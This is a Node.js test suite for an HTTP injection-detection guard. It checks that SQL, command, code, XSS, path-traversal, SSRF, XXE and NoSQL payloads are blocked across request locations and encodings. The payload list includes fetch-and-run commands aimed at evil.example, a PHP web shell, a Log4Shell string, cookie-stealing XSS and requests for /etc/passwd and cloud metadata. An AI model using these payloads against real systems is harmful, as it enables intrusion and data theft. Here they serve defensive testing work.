import { test, describe, after } from 'node:test'
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createInjectionGuard, type InjectionGuard } from './injection-guard.js'
import { resolveInjectionGuardConfig, type InjectionGuardConfigInput } from './schema.js'
import type { RequestParts } from './extract.js'
import { loadCorpus, OWN_CORPORA, requestParts } from '../../../test/helpers/corpora.js'
import { AUTOMATON_STRESS } from '../../../test/helpers/stress-text.js'

const guards: InjectionGuard[] = []
function guard(config: InjectionGuardConfigInput = {}): InjectionGuard {
  // These tests measure detection, not time: a generous engine budget keeps a loaded CI machine
  // from turning a slow run into a (fail-closed) limit block. Timing lives in the benchmark.
  const g = createInjectionGuard(resolveInjectionGuardConfig({ ...config, limits: { timeoutMs: 5_000, ...config.limits } }))
  guards.push(g)
  return g
}
after(() => guards.forEach((g) => g.close()))

const pl1 = guard()

/** A payload placed in one location, as a client would send it. */
type Placement = (payload: string) => RequestParts
const enc = encodeURIComponent
const base = (over: Partial<RequestParts>): RequestParts => ({ method: 'GET', path: '/v1/stations', rawQuery: '', headers: { host: 'api.example.com' }, ...over })
const boundary = '----pcboundary42'
const LOCATIONS: Record<string, Placement> = {
  query: (p) => base({ rawQuery: `q=${enc(p)}` }),
  path: (p) => base({ path: `/v1/stations/${enc(p)}` }),
  header: (p) => base({ headers: { host: 'api.example.com', 'user-agent': p } }),
  cookie: (p) => base({ headers: { host: 'api.example.com', cookie: `theme=dark; pref=${enc(p)}` } }),
  json: (p) => base({ method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ station: { notes: [{ text: p }] } })) }),
  xml: (p) => base({ method: 'POST', headers: { 'content-type': 'application/xml' }, body: Buffer.from(`<station><note>${p.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</note></station>`) }),
  form: (p) => base({ method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`name=Ann&comment=${enc(p)}`) }),
  multipart: (p) =>
    base({
      method: 'POST',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      body: Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="caption"\r\n\r\n${p}\r\n--${boundary}--\r\n`),
    }),
}
/** Encodings an attacker uses to slip past naive matching. */
const ENCODINGS: Record<string, (p: string) => string> = {
  plain: (p) => p,
  'url-encoded': (p) => enc(p),
  'double-url': (p) => enc(enc(p)),
  'mixed-case': (p) => [...p].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join(''),
  'html-entities': (p) => p.replace(/[<>'"(]/g, (c) => `&#${c.charCodeAt(0)};`),
}

const PAYLOADS: Record<string, string[]> = {
  sqli: ["1' OR '1'='1' --", '1 UNION SELECT username, password FROM users', "1; DROP TABLE users --", "admin' AND SLEEP(5)#"],
  cmdi: ['; cat /etc/passwd', '$(whoami)', '`id`', 'a;wget${IFS}http://evil.example/x.sh', 'x && curl http://evil.example | sh'],
  code: ["require('child_process').exec('id')", '{{7*7}}', '${jndi:ldap://evil.example/a}', '<?php system($_GET["c"]); ?>', '__import__("os").system("id")', "this.constructor.constructor('return process')()"],
  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(document.cookie)>', 'javascript:alert(1)', '<svg/onload=alert(1)>'],
  lfi: ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '/proc/self/environ'],
  ssrf: ['http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:6379/', 'gopher://localhost:25/_HELO', 'file:///etc/shadow'],
}
/**
 * Loopback and private addresses are normal in headers (X-Forwarded-For chains, the Referer and
 * Origin of a front end on localhost), so SSRF's host rules do not read headers; the metadata
 * address and dangerous schemes still count there. See "deployment headers" below.
 */
const NOT_IN_HEADERS = new Set(['http://127.0.0.1:6379/'])
/** Case folding would corrupt these; mixed case is not an evasion for them. */
const CASE_SENSITIVE = new Set(['${jndi:ldap://evil.example/a}', '__import__("os").system("id")'])

describe('detects every category in every location and encoding (PL1)', () => {
  for (const [category, payloads] of Object.entries(PAYLOADS)) {
    for (const [location, place] of Object.entries(LOCATIONS)) {
      test(`${category} in ${location}`, () => {
        for (const payload of payloads) {
          for (const [name, encode] of Object.entries(ENCODINGS)) {
            // Raw (unencoded) bytes in the path/cookie are not what a client can send; skip plain there.
            if ((location === 'path' || location === 'cookie') && name === 'plain') continue
            if (name === 'mixed-case' && CASE_SENSITIVE.has(payload)) continue
            if (location === 'header' && NOT_IN_HEADERS.has(payload)) continue
            if (name === 'html-entities' && (location === 'path' || category === 'ssrf' || category === 'lfi')) continue
            const verdict = pl1.inspect(place(encode(payload)))
            assert.equal(verdict.block, true, `${category}/${location}/${name} not blocked: ${payload}`)
            assert.ok(verdict.detections.some((d) => d.category === category || category === 'code' || category === 'cmdi'), `${name}: ${JSON.stringify(verdict.detections)}`)
          }
        }
      })
    }
  }
})

describe('location-specific categories', () => {
  test('deployment headers: loopback and private addresses are not SSRF, metadata and odd schemes are', () => {
    const headers = (h: Record<string, string>) => pl1.inspect(base({ headers: h }))
    const cases: Record<string, string>[] = [
      { 'x-forwarded-for': '127.0.0.1' },
      { 'x-forwarded-for': '203.0.113.7, 10.0.3.14' },
      { 'x-forwarded-host': 'localhost:8080' },
      { origin: 'http://localhost:3000', referer: 'http://localhost:3000/stations' },
      { referer: 'http://[::1]:8080/settings' },
    ]
    for (const h of cases) assert.deepEqual(headers(h).detections, [], JSON.stringify(h))
    assert.equal(headers({ referer: 'http://169.254.169.254/latest/meta-data/' }).block, true)
    assert.equal(headers({ referer: 'gopher://localhost:25/_HELO' }).block, true)
    assert.equal(pl1.inspect(base({ rawQuery: 'callback=http%3A%2F%2F127.0.0.1%3A6379%2F' })).block, true, 'still SSRF in a parameter')
  })
  test('NoSQL operators as JSON keys and query-string brackets', () => {
    const json = pl1.inspect(base({ method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from('{"user":"admin","password":{"$ne":null}}') }))
    assert.equal(json.block, true)
    assert.equal(json.detections[0]?.category, 'nosql')
    assert.equal(json.detections[0]?.location, 'body.password.$ne (name)')
    assert.equal(pl1.inspect(base({ rawQuery: 'user[%24gt]=&role[$regex]=.*' })).block, true)
  })
  test('prototype pollution keys', () => {
    const v = pl1.inspect(base({ method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from('{"a":{"__proto__":{"isAdmin":true}}}') }))
    assert.equal(v.block, true)
    assert.equal(v.detections[0]?.category, 'code')
  })
  test('XXE in an XML body', () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
    const v = pl1.inspect(base({ method: 'POST', headers: { 'content-type': 'application/xml' }, body: Buffer.from(xml) }))
    assert.equal(v.block, true)
    assert.ok(v.detections.some((d) => d.category === 'xxe' && d.location === 'body.!doctype'))
  })
  test('multipart file names', () => {
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="upload"; filename="shell.php"\r\nContent-Type: application/octet-stream\r\n\r\nGIF89a\r\n--${boundary}--\r\n`
    const v = pl1.inspect(base({ method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: Buffer.from(body) }))
    assert.equal(v.block, true)
    assert.equal(v.detections[0]?.location, 'body.upload.filename')
  })
  test('SQL hidden by inline comments and Unicode full-width characters', () => {
    assert.equal(pl1.inspect(base({ rawQuery: 'id=1%20UN/**/ION%20SEL/**/ECT%201,2' })).block || pl1.inspect(base({ rawQuery: 'id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users' })).block, true)
    assert.equal(pl1.inspect(base({ rawQuery: 'id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users' })).block, true)
    assert.equal(pl1.inspect(base({ rawQuery: `x=${enc('＜script＞alert(1)＜/script＞')}` })).block, true)
    assert.equal(pl1.inspect(base({ rawQuery: 'x=%u003cscript%u003ealert(1)%u003c/script%u003e' })).block, true)
  })
})

test('committed benign corpus: zero blocks at paranoia level 1', () => {
  const lines = readFileSync(new URL('../../../corpora/benign-api.jsonl', import.meta.url), 'utf8').split('\n').filter(Boolean)
  assert.ok(lines.length >= 300)
  const blocked: string[] = []
  for (const line of lines) {
    const c = JSON.parse(line) as { id: string; method: string; uri: string; headers: Record<string, string>; body: string }
    const headers = Object.fromEntries(Object.entries(c.headers).map(([k, v]) => [k.toLowerCase(), v]))
    const q = c.uri.indexOf('?')
    const v = pl1.inspect({ method: c.method, path: q < 0 ? c.uri : c.uri.slice(0, q), rawQuery: q < 0 ? '' : c.uri.slice(q + 1), headers, body: Buffer.from(c.body) })
    if (v.block) blocked.push(`${c.id}: ${JSON.stringify(v.detections)}`)
  }
  assert.deepEqual(blocked, [])
})

describe('exclusions', () => {
  const payload = () => base({ method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ snippet: '<script>alert(1)</script>', title: 'ok' })) })
  test('a category excluded for one parameter no longer fires there', () => {
    const g = guard({ exclusions: [{ categories: ['xss'], locations: ['body.snippet'] }] })
    assert.equal(g.inspect(payload()).block, false)
  })
  test('the same rule still fires in another parameter (re-checked past the excluded match)', () => {
    const g = guard({ exclusions: [{ categories: ['xss'], locations: ['body.snippet'] }] })
    const both = base({ method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify({ snippet: '<script>alert(1)</script>', title: '<script>alert(2)</script>' })) })
    const v = g.inspect(both)
    assert.equal(v.block, true)
    assert.ok(v.detections.every((d) => d.location !== 'body.snippet'))
  })
  test('prefix locations and rule ids', () => {
    const g = guard({ exclusions: [{ rules: ['pc-xss-100', 'pc-xss-110', 'pc-xss-130'], locations: ['body.*'] }] })
    assert.equal(g.inspect(payload()).block, false)
    assert.equal(g.inspect(base({ rawQuery: 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E' })).block, true)
  })
  test('an exclusion without rules skips the parameter for every rule', () => {
    const g = guard({ exclusions: [{ locations: ['body.snippet'] }] })
    assert.equal(g.inspect(payload()).block, false)
  })
})

describe('limits have a defined outcome', () => {
  const deep = (n: number): string => '{"a":'.repeat(n) + '"x"' + '}'.repeat(n)
  const json = (body: string): RequestParts => base({ method: 'POST', headers: { 'content-type': 'application/json' }, body: Buffer.from(body) })
  test('depth: block by default, allow when onLimit=allow', () => {
    const v = guard({ limits: { maxDepth: 8 } }).inspect(json(deep(20)))
    assert.equal(v.limitHit, 'depth')
    assert.equal(v.block, true)
    const allowed = guard({ limits: { maxDepth: 8 }, onLimit: 'allow' }).inspect(json(deep(20)))
    assert.equal(allowed.limitHit, 'depth')
    assert.equal(allowed.block, false)
  })
  test('value count', () => {
    const body = JSON.stringify(Array.from({ length: 500 }, (_, i) => `item ${i}`))
    const v = guard({ limits: { maxValues: 100 } }).inspect(json(body))
    assert.equal(v.limitHit, 'values')
    assert.equal(v.block, true)
    assert.equal(v.inspectedValues, 100)
  })
  test('bytes: an attack inside the inspected prefix is still detected with onLimit=allow', () => {
    const body = JSON.stringify({ a: "1' UNION SELECT password FROM users --", pad: 'x'.repeat(10_000) })
    const v = guard({ limits: { maxBytes: 4096 }, onLimit: 'allow' }).inspect(json(body))
    assert.equal(v.limitHit, 'bytes')
    assert.equal(v.block, true)
    assert.ok(v.detections.some((d) => d.category === 'sqli'))
  })
  test('an attack past the 4 KiB engine window in a long value is found', () => {
    const v = pl1.inspect(json(JSON.stringify({ text: 'lorem ipsum '.repeat(1000) + '<script>alert(1)</script>' })))
    assert.equal(v.block, true)
  })
  test('an attack anywhere in long non-ASCII text is found (libddwaf cuts strings at 4096 bytes, not characters)', () => {
    for (const letter of ['é', '中', '😀']) {
      for (const before of [1000, 1400, 2100, 3000, 3700, 5000, 9000]) {
        const text = `${letter.repeat(before)} ; cat /etc/passwd ${letter.repeat(3000)}`
        const verdict = pl1.inspect(json(JSON.stringify({ text })))
        assert.equal(verdict.limitHit, undefined)
        assert.ok(verdict.block && verdict.detections.some((d) => d.category === 'cmdi'), `${letter} x ${before}`)
      }
    }
  })
})

test('a 100 KB ReDoS-style input is inspected in bounded time', () => {
  const crafted = [
    'a'.repeat(100_000) + '!',
    '<' + 'a '.repeat(50_000),
    "'" + ' or 1'.repeat(20_000),
    '${'.repeat(50_000),
    '(' + '((a|a)*)'.repeat(12_000),
    ...AUTOMATON_STRESS.map(([, text]) => text),
  ]
  // A budget far above the expected cost, so the assertion is about the engine, not the budget.
  // The lowest and the highest paranoia level: the highest has the most patterns per automaton.
  for (const paranoia of [1, 4]) {
    const g = guard({ paranoia, limits: { timeoutMs: 5000 } })
    for (const text of crafted) {
      const started = process.hrtime.bigint()
      const v = g.inspect(base({ method: 'POST', headers: { 'content-type': 'text/plain' }, body: Buffer.from(text) }))
      const elapsedMs = Number(process.hrtime.bigint() - started) / 1e6
      // Generous bound: linear engines take a few milliseconds; backtracking would take seconds.
      assert.ok(elapsedMs < 1000, `PL${paranoia}: took ${elapsedMs} ms`)
      assert.notEqual(v.limitHit, 'timeout')
    }
  }
})

test('excerpts are redacted and capped at 64 characters', () => {
  const v = pl1.inspect(base({ rawQuery: `q=${enc("card 4111111111111111 ' UNION SELECT password FROM users -- " + 'x'.repeat(200))}&password=${enc("' OR 1=1 --")}` }))
  assert.equal(v.block, true)
  for (const d of v.detections) {
    assert.ok(d.excerpt.length <= 64)
    assert.ok(!d.excerpt.includes('4111111111111111'))
    if (d.location.startsWith('query.password')) assert.equal(d.excerpt, '[redacted]')
  }
})

test('HTTP/2 pseudo-headers are not inspected as headers (the request line is inspected as path and query)', () => {
  const v = pl1.inspect({ method: 'GET', path: '/v1/stations', rawQuery: '', headers: { ':authority': '127.0.0.1:8443', ':path': '/v1/stations', ':scheme': 'https', ':method': 'GET', accept: '*/*' } })
  assert.equal(v.block, false, v.reason)
  assert.deepEqual(v.detections, [])
})

describe('inspecting a turn of requests at once', () => {
  const cases = [...OWN_CORPORA.flatMap((file) => loadCorpus(file, 'own'))].map(requestParts)
  const withExclusion = { exclusions: [{ locations: ['query.q'], categories: ['sqli' as const] }] }

  test('every verdict equals the one-by-one verdict, in clean, mixed and attacked batches', () => {
    for (const config of [{}, withExclusion, { paranoia: 3 }]) {
      const single = guard(config)
      const batched = guard(config)
      const expected = cases.map((c) => single.inspect(c))
      // Batches of 1 to 7 consecutive cases: benign runs, attacks among benign requests, attack runs.
      for (let start = 0, size = 1; start < cases.length; start += size, size = (size % 7) + 1) {
        const verdicts = batched.inspectMany(cases.slice(start, start + size))
        verdicts.forEach((v, i) => assert.deepEqual(v, expected[start + i], `case ${start + i} in a batch of ${size}`))
      }
    }
  })

  test('a batch that is clean but for one attack still blocks the attack, and only it', () => {
    const benign = cases.slice(0, 60).filter((c) => !pl1.inspect(c).block)
    const attack = LOCATIONS.json!('; cat /etc/passwd')
    const verdicts = pl1.inspectMany([...benign.slice(0, 5), attack, ...benign.slice(5, 10)])
    assert.deepEqual(verdicts.map((v) => v.block), [...Array(5).fill(false), true, ...Array(5).fill(false)])
  })
})
